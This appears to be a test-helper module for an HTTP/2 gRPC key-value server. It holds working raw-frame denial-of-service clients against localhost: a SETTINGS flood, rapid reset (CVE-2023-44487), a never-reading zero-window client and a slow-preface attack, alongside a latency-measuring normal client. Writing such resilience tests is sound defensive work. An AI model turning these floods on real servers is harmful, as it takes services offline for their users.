// Hostile HTTP/2 clients for the attack tests and bench/h2-attacks.ts, written with raw
// frames so they do exactly what an attacker would (no client library smooths them), and
// a well-behaved gRPC client that records what it saw while they run.
//
// Each attack runs against a client port until stop() and reports what the server did
// to it (GOAWAY codes, bytes read). None asserts anything: the callers do.

import fs from 'node:fs';
import net from 'node:net';
import { CLIENT_PREFACE, ErrorCode, Flags, FrameType, SettingId, buildFrame } from '../../src/api/h2/frames.js';
import { HpackEncoder } from '../../src/api/h2/hpack-encoder.js';
import { frameMessage } from '../../src/api/grpc/framing.js';
import { PutRequest, RangeRequest, RangeResponse, PutResponse } from '../../src/proto/etcdserverpb.js';
import { UnaryClient } from '../../src/client/unary-client.js';

export interface AttackReport {
  /** GOAWAY error codes the server sent, one per connection that got one */
  goaways: number[];
  /** connections the server closed */
  closed: number;
  /** requests (streams) the attacker opened */
  streams: number;
}

export interface Attack {
  stop(): Promise<AttackReport>;
}

const GRPC_HEADERS = (path: string) => ({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': path,
  ':authority': 'attacker',
  'content-type': 'application/grpc',
  te: 'trailers',
});

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
}

function settingsFrame(entries: Array<[number, number]>): Buffer {
  const p = Buffer.alloc(entries.length * 6);
  entries.forEach(([k, v], i) => {
    p.writeUInt16BE(k, i * 6);
    p.writeUInt32BE(v >>> 0, i * 6 + 2);
  });
  return buildFrame(FrameType.SETTINGS, 0, 0, p);
}

/** One raw connection: reads (and discards, unless told to keep) whatever the server sends, and records GOAWAY. */
class RawConn {
  readonly sock: net.Socket;
  readonly encoder = new HpackEncoder();
  nextId = 1;
  goaway: number | undefined;
  closed = false;
  private pending = Buffer.alloc(0);

  constructor(port: number, settings: Array<[number, number]> = [], read = true) {
    this.sock = net.connect(port, '127.0.0.1');
    this.sock.on('error', () => {});
    this.sock.on('close', () => (this.closed = true));
    this.sock.on('data', (c: Buffer) => this.scan(c));
    if (!read) this.sock.pause();
    this.sock.write(Buffer.concat([CLIENT_PREFACE, settingsFrame(settings)]));
  }

  /** Watches the frame headers for a GOAWAY; payloads are skipped. */
  private scan(chunk: Buffer): void {
    let buf = this.pending.length > 0 ? Buffer.concat([this.pending, chunk]) : chunk;
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      if (buf[3] === FrameType.GOAWAY && len >= 8) this.goaway ??= buf.readUInt32BE(13);
      buf = buf.subarray(9 + len);
    }
    this.pending = Buffer.from(buf);
  }

  /** HEADERS for a gRPC call, optionally followed by its one message with END_STREAM. */
  request(path: string, message?: Uint8Array): { id: number; bytes: Buffer } {
    const id = this.nextId;
    this.nextId += 2;
    const block = this.encoder.encode(GRPC_HEADERS(path));
    const parts = [buildFrame(FrameType.HEADERS, Flags.END_HEADERS, id, block)];
    if (message) parts.push(buildFrame(FrameType.DATA, Flags.END_STREAM, id, frameMessage(message)));
    return { id, bytes: Buffer.concat(parts) };
  }

  /** Resolves when the socket takes writes again or is gone. */
  drained(): Promise<void> {
    return new Promise((resolve) => {
      const done = (): void => {
        this.sock.off('drain', done);
        this.sock.off('close', done);
        resolve();
      };
      this.sock.once('drain', done);
      this.sock.once('close', done);
    });
  }

  write(bytes: Buffer): boolean {
    if (this.closed) return false;
    return this.sock.write(bytes);
  }

  destroy(): void {
    this.sock.destroy();
  }
}

function report(conns: RawConn[], streams: number): AttackReport {
  for (const c of conns) c.destroy();
  return {
    goaways: conns.flatMap((c) => (c.goaway === undefined ? [] : [c.goaway])),
    closed: conns.filter((c) => c.closed).length,
    streams,
  };
}

function untilStopped(step: () => void | Promise<void>): { stop(): Promise<void> } {
  let running = true;
  const loop = (async () => {
    while (running) {
      await step();
      await new Promise((r) => setImmediate(r));
    }
  })();
  return {
    async stop() {
      running = false;
      await loop;
    },
  };
}

/**
 * SETTINGS amplification: `streams` open requests (HEADERS without END_STREAM), then
 * SETTINGS frames of 16 KiB each full of INITIAL_WINDOW_SIZE entries, as fast as the
 * socket takes them.
 */
export function settingsFlood(port: number, streams = 3000): Attack {
  const c = new RawConn(port);
  const opened: Buffer[] = [];
  for (let i = 0; i < streams; i++) opened.push(c.request('/etcdserverpb.KV/Put').bytes);
  c.write(Buffer.concat(opened));
  const entries: Array<[number, number]> = [];
  for (let i = 0; i < 2730; i++) entries.push([SettingId.INITIAL_WINDOW_SIZE, i % 2 === 0 ? 1 << 20 : 65535]);
  const flood = settingsFrame(entries);
  const loop = untilStopped(async () => {
    if (c.closed) return new Promise((r) => setTimeout(r, 50));
    if (!c.write(flood)) await c.drained();
  });
  return { stop: async () => (await loop.stop(), report([c], streams)) };
}

/**
 * Rapid reset (CVE-2023-44487) on `connections` connections: each writes batches of
 * Put requests (HEADERS, DATA with END_STREAM) immediately followed by RST_STREAM(CANCEL),
 * keys under `prefix`, until the server closes it; then it reconnects.
 */
export function rapidReset(port: number, prefix: string, connections = 4, batch = 100): Attack {
  const conns: RawConn[] = [];
  let streams = 0;
  let n = 0;
  const live = Array.from({ length: connections }, () => new RawConn(port));
  conns.push(...live);
  const loop = untilStopped(async () => {
    for (let i = 0; i < live.length; i++) {
      let c = live[i]!;
      if (c.closed || c.goaway !== undefined) {
        c.destroy();
        c = live[i] = new RawConn(port);
        conns.push(c);
      }
      const parts: Buffer[] = [];
      for (let k = 0; k < batch && c.nextId < 2 ** 31 - 2; k++) {
        const req = PutRequest.encode(PutRequest.create({ key: Buffer.from(`${prefix}${n++}`), value: Buffer.from('x') }));
        const { id, bytes } = c.request('/etcdserverpb.KV/Put', req);
        parts.push(bytes, buildFrame(FrameType.RST_STREAM, 0, id, u32(ErrorCode.CANCEL)));
        streams++;
      }
      if (!c.write(Buffer.concat(parts))) await new Promise((r) => setTimeout(r, 5));
    }
  });
  return { stop: async () => (await loop.stop(), report(conns, streams)) };
}

/**
 * A client that never reads its responses: it announces INITIAL_WINDOW_SIZE 0 (no DATA
 * may reach it) and keeps asking for `key` (a large value), one Range per stream.
 */
export function neverReader(port: number, key: string, maxStreams = 5000): Attack {
  const c = new RawConn(port, [[SettingId.INITIAL_WINDOW_SIZE, 0]]);
  let streams = 0;
  const req = RangeRequest.encode(RangeRequest.create({ key: Buffer.from(key) }));
  const loop = untilStopped(async () => {
    if (c.closed || streams >= maxStreams) return new Promise((r) => setTimeout(r, 50));
    const parts: Buffer[] = [];
    for (let k = 0; k < 50; k++, streams++) parts.push(c.request('/etcdserverpb.KV/Range', req).bytes);
    c.write(Buffer.concat(parts));
    await new Promise((r) => setTimeout(r, 10));
  });
  return { stop: async () => (await loop.stop(), report([c], streams)) };
}

/** Slow preface: `connections` sockets that send the client preface one byte every `everyMs`. */
export function slowPreface(port: number, connections = 100, everyMs = 500): Attack {
  const conns: RawConn[] = [];
  const socks = Array.from({ length: connections }, () => {
    const s = net.connect(port, '127.0.0.1');
    s.on('error', () => {});
    return { s, sent: 0, closed: false };
  });
  for (const x of socks) x.s.on('close', () => (x.closed = true));
  const timer = setInterval(() => {
    for (const x of socks) if (!x.closed && x.sent < CLIENT_PREFACE.length) x.s.write(CLIENT_PREFACE.subarray(x.sent, ++x.sent));
  }, everyMs);
  return {
    async stop() {
      clearInterval(timer);
      const closed = socks.filter((x) => x.closed).length;
      for (const x of socks) x.s.destroy();
      return { ...report(conns, 0), closed };
    },
  };
}

export interface ClientRecord {
  latenciesMs: number[];
  failures: string[];
}

/**
 * A well-behaved client: Put then Range on its own key, one call at a time, until
 * stop(); records every call's latency and every failure.
 */
export function wellBehaved(endpoint: string, timeoutMs = 10_000): { stop(): Promise<ClientRecord> } {
  const client = new UnaryClient(endpoint);
  const rec: ClientRecord = { latenciesMs: [], failures: [] };
  let i = 0;
  const loop = untilStopped(async () => {
    const key = Buffer.from(`good/${i++ % 100}`);
    const t0 = performance.now();
    try {
      const put = PutResponse.decode(await client.call('/etcdserverpb.KV/Put', PutRequest.encode(PutRequest.create({ key, value: key })), { timeoutMs }));
      const t1 = performance.now();
      rec.latenciesMs.push(t1 - t0);
      const got = RangeResponse.decode(await client.call('/etcdserverpb.KV/Range', RangeRequest.encode(RangeRequest.create({ key })), { timeoutMs }));
      rec.latenciesMs.push(performance.now() - t1);
      if (got.kvs.length !== 1 || put.header === undefined) rec.failures.push(`range of ${key} found ${got.kvs.length} keys`);
    } catch (err) {
      rec.failures.push((err as Error).message);
    }
  });
  return { stop: async () => (await loop.stop(), client.close?.(), rec) };
}

export function percentile(values: number[], p: number): number {
  if (values.length === 0) return NaN;
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

/** The resident set size of a process, from /proc (Linux), in bytes. */
export function rssBytes(pid: number): number {
  const m = /VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
  return m ? Number(m[1]) * 1024 : NaN;
}
